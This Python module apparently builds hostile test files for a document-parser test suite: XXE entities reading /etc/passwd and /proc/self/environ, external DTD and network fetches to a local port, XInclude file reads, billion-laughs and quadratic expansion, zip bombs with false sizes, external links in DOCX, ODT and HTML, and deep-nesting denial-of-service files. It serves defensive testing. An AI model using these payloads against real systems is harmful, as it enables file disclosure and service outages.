"""XML and HTML: entities, inclusions, links, depth and width, in every format that holds them."""

# ruff: noqa: E501 - a hostile object reads best on one line

from __future__ import annotations

from collections.abc import Callable, Iterator

from tests.samples.packages import WORD, docx, odt, zipped
from tests.samples.trial import Secrets

from .bombs import deflated, zip_with

Wrap = Callable[[str, str], bytes]
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _docx(before: str, inside: str) -> bytes:
    return docx(f"<w:p><w:r><w:t>before {inside} after</w:t></w:r></w:p>", before)


def _odt(before: str, inside: str) -> bytes:
    return odt(f"<text:p>before {inside} after</text:p>", before)


def _docx_styles(before: str, inside: str) -> bytes:
    styles = f'{before}<w:styles xmlns:w="{WORD}"><w:x>{inside}</w:x></w:styles>'
    return docx("<w:p><w:r><w:t>x</w:t></w:r></w:p>", more={"word/styles.xml": styles})


def _docx_title(before: str, inside: str) -> bytes:
    title = (
        f'{before}<p xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{inside}</dc:title></p>'
    )
    return docx("<w:p><w:r><w:t>x</w:t></w:r></w:p>", more={"docProps/core.xml": title})


def _odt_meta(before: str, inside: str) -> bytes:
    meta = (
        f'{before}<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office'
        f':1.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><office:meta><dc:title>{inside}'
        f"</dc:title></office:meta></office:document-meta>"
    )
    return odt("<text:p>x</text:p>", more={"meta.xml": meta})


def _html(before: str, inside: str) -> bytes:
    return f"{before}<html><body><p>before {inside} after</p></body></html>".encode()


def _svg(before: str, inside: str) -> bytes:
    return f'<?xml version="1.0"?>{before}<svg xmlns="x"><text>{inside}</text></svg>'.encode()


PLACES: dict[str, Wrap] = {
    "document.docx": _docx, "styles.docx": _docx_styles, "title.docx": _docx_title,
    "content.odt": _odt, "meta.odt": _odt_meta, "page.html": _html, "drawing.svg": _svg,
}  # fmt: skip


def entities(secrets: Secrets) -> dict[str, tuple[str, str]]:
    """Name → (declaration, what stands in the text)."""
    url = f"http://127.0.0.1:{secrets.port}/x"
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return {
        "file": (f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secrets.path}">]>', "&e;"),
        "environ": ('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///proc/self/environ">]>', "&e;"),
        "net": (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]>', "&e;"),
        "dtd": (f'<!DOCTYPE x SYSTEM "{url}.dtd">', "x"),
        "parameter": (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{url}"> %p;]>', "&e;"),
        "laughs": (f'<!DOCTYPE x [<!ENTITY a0 "ha">{laughs}]>', "&a9;"),
        "quadratic": (f'<!DOCTYPE x [<!ENTITY q "{"q" * 50_000}">]>', "&q;" * 20_000),
        "hidden": (
            f'<!--{"x" * 9000}--><!DOCTYPE x [<!ENTITY e SYSTEM "file://{secrets.path}">]>', "&e;"
        ),
        "include": (
            "",
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://{secrets.path}"/>',
        ),
    }  # fmt: skip


def links(secrets: Secrets) -> Iterator[tuple[str, bytes]]:
    """Links to files and servers, in every way that the formats know."""
    path, url = f"file://{secrets.path}", f"http://127.0.0.1:{secrets.port}/x"
    for short, target in (("file", path), ("net", url), ("share", "file://127.0.0.1/c$/x")):
        relations = (
            f'<Relationships xmlns="{_RELATIONS}">'
            f'<Relationship Id="r1" Type="{_KINDS}/attachedTemplate" Target="{target}" '
            f'TargetMode="External"/><Relationship Id="r2" Type="{_KINDS}/image" '
            f'Target="{target}" TargetMode="External"/></Relationships>'
        )
        body = (
            f'<w:p><w:r><w:instrText>INCLUDETEXT "{target}"</w:instrText></w:r>'
            f"<w:r><w:t>x</w:t></w:r></w:p>"
        )
        more = {
            "word/_rels/document.xml.rels": relations,
            "word/_rels/settings.xml.rels": relations,
        }
        yield f"link-{short}.docx", docx(body, more=more)
        yield (
            f"link-{short}.odt",
            odt(
                f'<text:section text:name="s"><text:section-source xlink:href="{target}"/></text:section>'
                f'<text:p>x<draw:frame><draw:image xlink:href="{target}"/></draw:frame></text:p>'
            ),
        )
        page = (
            f'<base href="{target}"><link rel="stylesheet" href="{target}"><p>x'
            f'<img src="{target}"><iframe src="{target}"></iframe><script src="{target}"></script>'
            f'<object data="{target}"></object><style>@import url({target});</style>'
            f'<meta http-equiv="refresh" content="0;url={target}">'
        )
        yield f"link-{short}.html", f"<html><head></head><body>{page}</body></html>".encode()
    yield (
        "relations-loop.docx",
        docx(
            "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
            more={
                "word/_rels/document.xml.rels": f'<Relationships xmlns="{_RELATIONS}"><Relationship '
                f'Id="r1" Type="{_KINDS}/header" Target="document.xml"/></Relationships>'
            },
        ),
    )


def _large() -> Iterator[tuple[str, bytes]]:
    n = 100_000
    yield "deep.odt", odt("<text:p>" + "<text:span>" * n + "x" + "</text:span>" * n + "</text:p>")
    yield "deep.docx", docx("<w:sdt>" * n + "x" + "</w:sdt>" * n)
    cell = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    yield "tables-200.docx", docx(cell[0] * 60 + "<w:p/>" + cell[1] * 60)
    cell = (
        "<table:table><table:table-row><table:table-cell>",
        ("</table:table-cell></table:table-row></table:table>"),
    )
    yield "tables.odt", odt(cell[0] * 60 + "<text:p>x</text:p>" + cell[1] * 60)
    yield "deep.html", b"<div>" * n + b"x"
    yield "lists.html", b"<ul><li>" * 50_000 + b"x"
    yield "cells.html", b"<table>" + b"<tr><td>x" * 200_000
    yield "attributes.html", b"<p " + b"".join(b"a%d=b " % i for i in range(n)) + b">x"
    yield "entities.html", b"<p>" + b"&amp;&#x110000;&#0;&#xD800;&nosuch;" * n
    yield "comment.html", b"<html><!--" + b"-" * 2_000_000
    yield "script.html", b"<html><script>" + b"</scrip" * 300_000
    yield "attributes.docx", docx("<w:p " + " ".join(f'a{i}="b"' for i in range(n)) + "/>")
    yield "paragraphs.docx", docx("<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 400_000)
    yield "paragraphs.odt", odt("<text:p>x</text:p>" * 600_000)
    yield (
        "repeated.odt",
        odt(
            '<table:table><table:table-row table:number-rows-repeated="2000000000"><table:table-cell '
            'table:number-columns-repeated="2000000000"><text:p>x</text:p></table:table-cell>'
            "</table:table-row></table:table>"
        ),
    )
    yield "spaces.odt", odt('<text:p><text:s text:c="2000000000"/>x</text:p>' * 3)
    yield (
        "spans.docx",
        docx(
            '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'
        ),
    )
    yield (
        "style-loop.docx",
        docx(
            '<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>',
            more={
                "word/styles.xml": f'<w:styles xmlns:w="{WORD}"><w:style w:type="paragraph" '
                'w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:type="paragraph" '
                'w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>'
            },
        ),
    )
    yield "namespaces.docx", docx("".join(f'<n{i}:p xmlns:n{i}="u{i}"/>' for i in range(50_000)))
    text = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>'.encode()
    yield "long-text.docx", zipped({"word/document.xml": text + b"x" * 30_000_000})


def _bombs() -> Iterator[tuple[str, bytes]]:
    main = (
        "word/document.xml",
        f'<w:document xmlns:w="{WORD}"><w:body><w:p>'.encode(),
    )
    for size, said in ((4 << 30, (4 << 30) - 2), (4 << 30, 5000), (200 << 20, 200 << 20)):
        packed = deflated(size, head=main[1])
        yield f"bomb-{size >> 20}-{said}.docx", zip_with(main[0], packed, said)
        yield f"bomb-{size >> 20}-{said}.odt", zip_with("content.xml", packed, said)
    yield "types-bomb.docx", zip_with("[Content_Types].xml", deflated(4 << 30), 1000)
    yield "mimetype-bomb.odt", zip_with("mimetype", deflated(4 << 30), 1000)
    # Never written as such by any program: another charset around a declaration.
    for charset in ("utf-16", "utf-16-be", "utf-7", "cp037"):
        xml = f'<?xml version="1.0" encoding="{charset}"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
        yield f"charset-{charset}.docx", zipped({"word/document.xml": xml.encode(charset)})
        yield f"charset-{charset}.odt", zipped({"content.xml": xml.encode(charset)})


def files(secrets: Secrets) -> Iterator[tuple[str, bytes]]:
    """All files of this kind."""
    for what, (before, inside) in entities(secrets).items():
        for place, wrap in PLACES.items():
            stem, _, extension = place.rpartition(".")
            yield f"{what}-{stem}.{extension}", wrap(before, inside)
    yield from links(secrets)
    yield from _large()
    yield from _bombs()
    head = b'<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
    entity = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    yield "wordml.doc", head + entity + b"<w:wordDocument>&e;</w:wordDocument>"
    yield (
        "wordml-link.doc",
        head
        + b'<w:wordDocument><w:pict><v:imagedata src="file:///etc/passwd"/></w:pict></w:wordDocument>',
    )
